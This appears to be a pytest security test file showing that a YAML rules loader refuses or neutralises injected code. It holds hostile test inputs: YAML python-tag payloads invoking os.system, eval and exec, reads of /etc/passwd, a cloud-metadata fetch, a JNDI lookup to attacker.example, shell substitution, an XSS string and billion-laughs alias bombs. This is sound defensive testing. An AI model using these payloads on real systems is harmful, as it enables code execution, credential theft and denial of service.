"""A rules file cannot run code, read files or reach the network.

Rules are data: YAML through the safe loader, validated by closed pydantic models,
compiled to frozen dataclasses; nothing in them is evaluated. Python tags, custom tags
and tag-directive tricks are rejected; anchors and aliases (billion laughs) stay
shared references and end in a validation error; strings that look like templates,
URLs or paths stay literal text. A Python audit hook watches every load: the only
event allowed is opening the rules file itself (no process, socket, import, exec or
other file). Rules are only read from a file at start; there is no control message
that changes them at run time.
"""

from __future__ import annotations

import os
import sys
import threading
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from flows.engine import EngineConfig, ShardEngine
from flows.model import Push
from flows.rules import MAX_RULES_FILE_BYTES, RulesError, RuleSet, load_rules
from state.profiles import InMemoryProfileStore
from tests.flows.helpers import DEFAULT_RULES_PATH, click, profile

# --- the audit hook ---------------------------------------------------------------

_events: list[tuple[str, tuple[Any, ...]]] = []
_watching = threading.local()


def _model_construction(event: str, args: tuple[Any, ...]) -> bool:
    """The audit event of flows.model building one of its frozen classes (a record, say).

    Those classes are built as a plain draft of the same slots whose ``__class__`` is
    then set to the frozen class (``flows.model._draft``); Python audits every
    ``__class__`` assignment as ``object.__setattr__``. Only that exact shape is left out.
    """
    if event != "object.__setattr__" or len(args) != 3 or args[1] != "__class__":
        return False
    obj, _, cls = args
    return (isinstance(cls, type) and cls.__module__ == "flows.model"
            and type(obj).__name__ == f"_{cls.__name__}Draft"
            and type(obj).__module__ == "flows.model")


def _hook(event: str, args: tuple[Any, ...]) -> None:
    if getattr(_watching, "on", False) and not _model_construction(event, args):
        _events.append((event, args))


sys.addaudithook(_hook)  # process-wide and permanent, but it records only inside watch()


def watched_load(path: Path) -> tuple[RuleSet | RulesError, list[tuple[str, tuple[Any, ...]]]]:
    """Load a rules file while recording every audit event of this thread."""
    _events.clear()
    _watching.on = True
    try:
        try:
            result: RuleSet | RulesError = load_rules(path)
        except RulesError as exc:
            result = exc
    finally:
        _watching.on = False
    return result, list(_events)


def assert_only_read_itself(path: Path, events: list[tuple[str, tuple[Any, ...]]]) -> None:
    """Nothing but opening the rules file: no exec, import, process, socket, file."""
    others = [(e, a) for e, a in events if not (e == "open" and str(a[0]) == str(path))]
    assert others == [], others


def write(tmp_path: Path, text: str, name: str = "rules.yaml") -> Path:
    p = tmp_path / name
    p.write_text(text, "utf-8")
    return p


@pytest.fixture
def marker(tmp_path: Path) -> Iterator[Path]:
    """A file that a payload would create; it must never exist."""
    m = tmp_path / "PWNED"
    yield m
    assert not m.exists(), "a rules file ran code"


VALID = DEFAULT_RULES_PATH.read_text("utf-8")


def test_the_shipped_rules_load_under_the_hook(tmp_path: Path) -> None:
    p = write(tmp_path, VALID)
    rs, events = watched_load(p)
    assert isinstance(rs, RuleSet) and len(rs.rules) == 7
    assert_only_read_itself(p, events)
    assert events  # the hook does see the file being opened


# --- tags ----------------------------------------------------------------------------

def _payloads(m: Path) -> list[str]:
    sh = f"touch {m}"
    return [
        f"!!python/object/apply:os.system [{sh!r}]",
        f"!!python/object/apply:subprocess.check_output [[touch, {str(m)!r}]]",
        f"!!python/object/new:os.system [{sh!r}]",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!python/object:builtins.object {}",
        f"!!python/object/apply:builtins.eval [\"__import__('os').system({sh!r})\"]",
        f"!!python/object/apply:builtins.exec [\"open({str(m)!r}, 'w')\"]",
        "!!python/object/apply:builtins.open ['/etc/passwd']",
        "!!python/object/apply:socket.create_connection [[127.0.0.1, 9]]",
        "!!python/object/apply:urllib.request.urlopen ['http://169.254.169.254/']",
        "!!python/object/apply:pickle.loads [!!binary gASVAAAAAAAAAAAu]",
        "!include /etc/passwd",
        "!ENV ${HOME}",
        "!file /etc/hostname",
    ]


@pytest.mark.parametrize("where", ["version", "description", "trigger", "top"])
@pytest.mark.parametrize("n", range(15))
def test_python_and_custom_tags_are_rejected_and_never_run(
        tmp_path: Path, marker: Path, where: str, n: int) -> None:
    payload = _payloads(marker)[n]
    text = {
        "version": f"version: {payload}\nrules: []\n",
        "description": f"version: 1\nrules:\n  - id: r\n    trigger: {{kind: step_dwell}}\n"
                       f"    push: {{kind: help}}\n    description: {payload}\n",
        "trigger": f"version: 1\nrules:\n  - id: r\n    push: {{kind: help}}\n"
                   f"    trigger: {payload}\n",
        "top": f"--- {payload}\n",
    }[where]
    p = write(tmp_path, text)
    result, events = watched_load(p)
    assert isinstance(result, RulesError), result
    [err] = result.errors
    assert err.startswith(f"{p}: line ") and "not valid YAML" in err, err
    assert "could not determine a constructor for the tag" in err, err
    assert_only_read_itself(p, events)


def test_a_tag_directive_cannot_alias_python_tags(tmp_path: Path, marker: Path) -> None:
    p = write(tmp_path, f"%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\n"
                        f"version: !p!os.system ['touch {marker}']\nrules: []\n")
    result, events = watched_load(p)
    assert isinstance(result, RulesError)
    assert "could not determine a constructor" in result.errors[0]
    assert_only_read_itself(p, events)


def test_safe_tags_only_make_plain_values_that_fail_validation(tmp_path: Path) -> None:
    p = write(tmp_path, "version: !!binary aGVsbG8=\nguards: !!set {a, b}\n"
                        "rules: !!timestamp 2026-01-01\n")
    result, events = watched_load(p)
    assert isinstance(result, RulesError)
    assert [e.split(": ", 1)[1] for e in result.errors] == [
        "version: Input should be a valid integer, unable to parse string as an integer",
        "guards: Input should be a valid dictionary or instance of GuardsModel",
        "rules: Input should be a valid list",
    ]
    assert_only_read_itself(p, events)


# --- strings stay strings ---------------------------------------------------------


@pytest.mark.parametrize("text", [
    "{{ 7*7 }} {% import os %}",
    "${jndi:ldap://attacker.example/a}",
    "__import__('os').system('id')",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "$(touch /tmp/x); `id`",
    "<script>alert(1)</script>",
])
def test_code_like_text_is_pushed_as_literal_text(tmp_path: Path, text: str) -> None:
    doc = yaml.safe_load(VALID)
    for r in doc["rules"]:
        if r["id"] == "setup-first":
            r["push"]["text"] = text
            r["description"] = text
    p = write(tmp_path, yaml.safe_dump(doc, sort_keys=False))
    rs, events = watched_load(p)
    assert isinstance(rs, RuleSet)
    assert_only_read_itself(p, events)
    # Through the engine too: the push carries the text as it is, and nothing runs.
    eng = ShardEngine(0, rs, InMemoryProfileStore([profile("c1", ["care_link"])]),
                      EngineConfig(shards=1))
    out: list[Any] = []
    _events.clear()
    _watching.on = True
    try:
        eng.buffer_event(click("c1", 1_700_000_000_000, "session_start"))
        eng.advance(1_700_000_000_000, out)
    finally:
        _watching.on = False
    assert _events == []
    [push] = [x for x in out if type(x) is Push]
    assert (push.rule_id, push.content["text"]) == ("setup-first", text)


@pytest.mark.parametrize(("text", "errors"), [
    ("version: 1\ninclude: /etc/passwd\n$ref: http://x/rules.yaml\nrules: []\n",
     ["include: Extra inputs are not permitted", "$ref: Extra inputs are not permitted"]),
    ("version: 1\nrules:\n  - {id: r, trigger: {kind: step_dwell}, push: {kind: help},"
     " import: os, exec: 'print(1)'}\n",
     ["rule 'r': import: Extra inputs are not permitted",
      "rule 'r': exec: Extra inputs are not permitted"]),
])
def test_unknown_keys_like_include_or_ref_are_rejected(tmp_path: Path, text: str,
                                                      errors: list[str]) -> None:
    p = write(tmp_path, text)
    result, events = watched_load(p)
    assert isinstance(result, RulesError)
    assert [e.split(": ", 1)[1] for e in result.errors] == errors
    assert_only_read_itself(p, events)


# --- anchors, aliases and size -----------------------------------------------------


def _laughs(levels: int, where: str) -> str:
    lines = ["version: 1", 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    top = f"*a{levels - 1}"
    lines.append({
        "rules": f"rules: {top}",
        "description": f"rules:\n  - {{id: r, trigger: {{kind: step_dwell}}, "
                       f"push: {{kind: help}}, description: {top}}}",
        "services": f"rules:\n  - {{id: r, push: {{kind: setup_guide}}, trigger: "
                    f"{{kind: session_start_unconfigured, services: {top}}}}}",
    }[where])
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("where", ["rules", "description", "services"])
def test_billion_laughs_is_rejected_without_expanding(tmp_path: Path, where: str) -> None:
    """9**10 (3.5 billion) leaves by aliases: rejected, in bounded memory."""
    p = write(tmp_path, _laughs(10, where))
    assert p.stat().st_size < 2_000
    tracemalloc.start()
    try:
        result, events = watched_load(p)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert isinstance(result, RulesError), result
    assert 0 < len(result.errors) <= 20
    assert all(len(e) < 300 for e in result.errors)
    assert peak < 16 * 2**20, peak  # expanded, it would be terabytes
    assert_only_read_itself(p, events)


def test_a_huge_string_anchored_and_aliased_everywhere_is_rejected(tmp_path: Path) -> None:
    big = "x" * 200_000
    rules = "".join(f"  - {{id: r{i}, trigger: {{kind: step_dwell}}, push: {{kind: help, "
                    f"text: *big}}, description: *big}}\n" for i in range(1, 200))
    p = write(tmp_path, f"version: 1\nrules:\n  - {{id: r0, trigger: {{kind: step_dwell}}, "
                        f"push: {{kind: help}}, description: &big {big}}}\n{rules}")
    assert p.stat().st_size < MAX_RULES_FILE_BYTES
    result, events = watched_load(p)
    assert isinstance(result, RulesError)
    assert len(result.errors) == 1 + 2 * 199
    assert result.errors[:3] == [
        f"{p}: rule 'r0': description: String should have at most 1000 characters",
        f"{p}: rule 'r1': push.text: String should have at most 500 characters",
        f"{p}: rule 'r1': description: String should have at most 1000 characters",
    ]
    assert_only_read_itself(p, events)


@pytest.mark.parametrize("text", [
    "version: 1\nrules: " + "[" * 3_000 + "]" * 3_000 + "\n",
    "version: 1\nrules:\n  " + "- " * 3_000 + "x\n",
    "version: 1\nrules:\n" + "".join(" " * i + "a:\n" for i in range(1_200)),
])
def test_deep_nesting_is_a_rules_error(tmp_path: Path, text: str) -> None:
    p = write(tmp_path, text)
    with pytest.raises(RulesError) as ei:
        load_rules(p)
    assert "nested too deeply" in ei.value.errors[0]


def test_a_stream_larger_than_the_limit_is_not_read_whole(tmp_path: Path) -> None:
    fifo = tmp_path / "rules.fifo"
    os.mkfifo(fifo)
    body = (VALID + "#" + "x" * (2 * MAX_RULES_FILE_BYTES) + "\n").encode()
    done = threading.Event()

    def feed() -> None:
        try:
            with open(fifo, "wb") as fh:  # blocks until the loader opens it
                fh.write(body)
        except BrokenPipeError:
            pass  # the loader stopped reading: what a bounded read does
        finally:
            done.set()

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    try:
        with pytest.raises(RulesError) as ei:
            load_rules(fifo)
        assert ei.value.errors == [f"{fifo}: file is larger than {MAX_RULES_FILE_BYTES} bytes"]
    finally:
        if not done.wait(5):  # the loader never opened it: unblock the writer
            with open(fifo, "rb") as fh:
                fh.read()
        writer.join(5)
